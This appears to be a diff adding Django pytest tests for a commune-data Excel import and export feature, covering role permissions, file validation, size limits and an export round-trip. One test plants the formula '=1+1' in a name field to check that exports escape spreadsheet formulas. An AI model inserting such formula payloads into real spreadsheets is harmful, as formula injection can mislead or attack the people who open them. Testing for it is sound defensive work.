+def test_an_administrators_token_is_useless_to_another_user(demo_baseline, client, users):
+    client.force_login(users["administrator"])
+    response = preview(client, xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})]))
+    token = response.context["token"]
+    before = db_state()
+
+    client.force_login(users["committee"])
+    assert confirm(client, token).status_code == 403
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("method", "url"),
+    [
+        ("get", "/communes/import/"),
+        ("post", "/communes/import/"),
+        ("get", "/communes/import/template.xlsx"),
+        ("get", "/communes/export.xlsx"),
+        ("get", ADMIN_IMPORT_URL),
+    ],
+)
+def test_anonymous_users_are_sent_to_the_login_page(demo_baseline, client, method, url):
+    before = db_state()
+    data = {"file": upload(xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})]))} if method == "post" else None
+
+    response = getattr(client, method)(url, data)
+
+    assert response.status_code == 302
+    assert "/login/" in response["Location"]
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("role", ["committee", "provincial_clerk", "district_clerk"])
+def test_every_role_may_export_but_no_role_may_not(demo_baseline, client_as, role):
+    assert client_as(role).get(reverse("communes:commune_export")).status_code == 200
+
+
+@pytest.mark.django_db
+def test_a_user_without_a_role_may_not_export(demo_baseline, client_as):
+    assert client_as("no_role").get(reverse("communes:commune_export")).status_code == 403
+
+
+# --- the admin import ----------------------------------------------------------------------------------
+
+
+def admin_preview(client, content: bytes, name: str = "xa.xlsx"):
+    return client.post(ADMIN_IMPORT_URL, {"resource": "0", "format": "0", "import_file": upload(content, name)}, **EN)
+
+
+@pytest.mark.django_db
+def test_admin_import_good_file(demo_baseline, admin_client, django_capture_on_commit_callbacks):
+    content = xlsx(
+        HEADERS,
+        [row_for(DAK_MAN, **{"Có CA chính quy từ ngày": "15/03/2021", "Dân số": " 3.500 "}), row_for(DAK_PEK)],
+        blank_rows_after=(0,),
+    )
+    before = db_state()
+
+    response = admin_preview(admin_client, content)
+
+    assert response.status_code == 200
+    assert not response.context["form"].errors
+    result = response.context["result"]
+    assert not result.has_errors()
+    assert not result.has_validation_errors()
+    assert [row.import_type for row in result.rows] == ["update", "skip"]
+    confirm_form = response.context["confirm_form"]
+    assert confirm_form is not None
+    assert db_state() == before
+
+    data = {
+        name: confirm_form.initial[name] for name in ("import_file_name", "original_file_name", "format", "resource")
+    }
+    with django_capture_on_commit_callbacks(execute=True):
+        response = admin_client.post(ADMIN_PROCESS_URL, data, **EN)
+
+    assert response.status_code == 302
+    assert response["Location"] == reverse("admin:communes_commune_changelist")
+    commune = Commune.objects.get(code=DAK_MAN)
+    assert (commune.population, commune.baseline_covered_on) == (3500, datetime.date(2021, 3, 15))
+    assert commune.coverage == Coverage.BASELINE
+    assert commune.is_demo is False
+    assert Commune.objects.get(code=DAK_PEK).is_demo is True
+
+
+@pytest.mark.django_db
+def test_admin_import_bad_file_shows_errors_and_writes_nothing(demo_baseline, admin_client):
+    content = xlsx(
+        HEADERS,
+        [
+            row_for(TT_DAK_GLEI, **{"Dân số": 9000}),
+            row_for(DAK_MAN, **{"Mã xã": 99999}),
+            row_for(DAK_PEK, **{"Dân số": "abc"}),
+            row_for(DAK_CHOONG, **{"Mã huyện": NGOC_HOI}),
+        ],
+    )
+    before = db_state()
+
+    response = admin_preview(admin_client, content)
+
+    assert response.status_code == 200
+    result = response.context["result"]
+    assert result.has_validation_errors()
+    assert response.context.get("confirm_form") is None
+    invalid = {row.number: row.error_dict for row in result.invalid_rows}
+    assert set(invalid) == {2, 3, 4}
+    assert "code" in invalid[2]
+    assert "population" in invalid[3]
+    assert "district_id" in invalid[4]
+    html = response.content.decode()
+    assert "99999" in html
+    assert "abc" in html
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("name", "content", "text"),
+    [
+        ("xa.csv", b"Ma xa,Dan so\n23347,1\n", "Only Excel workbooks"),
+        ("xa.xlsx", b"Ma xa,Dan so\n23347,1\n", "not an Excel workbook"),
+        ("xa.xlsx", _broken_zip(), "damaged"),
+        ("xa.xlsx", xlsx(HEADERS, []), "no data rows"),
+        ("xa.xlsx", xlsx(["Dân số"], [[1]]), "Mã xã"),
+    ],
+    ids=["csv", "text-renamed", "broken-zip", "no-rows", "missing-code-column"],
+)
+def test_admin_import_refuses_unusable_files(demo_baseline, admin_client, name, content, text):
+    before = db_state()
+
+    response = admin_preview(admin_client, content, name)
+
+    assert response.status_code == 200
+    errors = " ".join(response.context["form"].errors.get("import_file", []))
+    assert text in errors
+    assert response.context.get("confirm_form") is None
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+def test_admin_import_refuses_a_file_over_the_size_limit(demo_baseline, admin_client, settings):
+    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})])
+    settings.IMPORT_MAX_UPLOAD_BYTES = 100
+    before = db_state()
+
+    response = admin_preview(admin_client, content)
+
+    assert "too large" in " ".join(response.context["form"].errors["import_file"])
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+def test_admin_export_is_formula_safe_and_imports_back(demo_baseline, admin_client):
+    Commune.objects.filter(code=DAK_MAN).update(name="=1+1")
+    response = admin_client.post(
+        "/admin/communes/commune/export/",
+        {
+            "resource": "0",
+            "format": "0",
+            **{
+                f"communeresource_{f}": "on"
+                for f in (
+                    "code",
+                    "name",
+                    "kind",
+                    "district_code",
+                    "district_name",
+                    "is_key_area",
+                    "is_border",
+                    "border_country",
+                    "population",
+                    "staffing_norm",
+                    "baseline_covered_on",
+                    "coverage",
+                )
+            },
+        },
+    )
+
+    assert response.status_code == 200, response.content[:500]
+    headers, *rows = sheet_rows(response.content)
+    assert list(headers) == HEADERS
+    by_code = {row[0]: row for row in rows}
+    assert by_code[DAK_MAN][1] == "'=1+1"
+    before = db_state()
+    preview_response = preview(admin_client, response.content)
+    assert preview_response.status_code == 200, errors_by_row(preview_response)
+    assert preview_response.context["report"].totals["unchanged"] == 102
+    assert db_state() == before
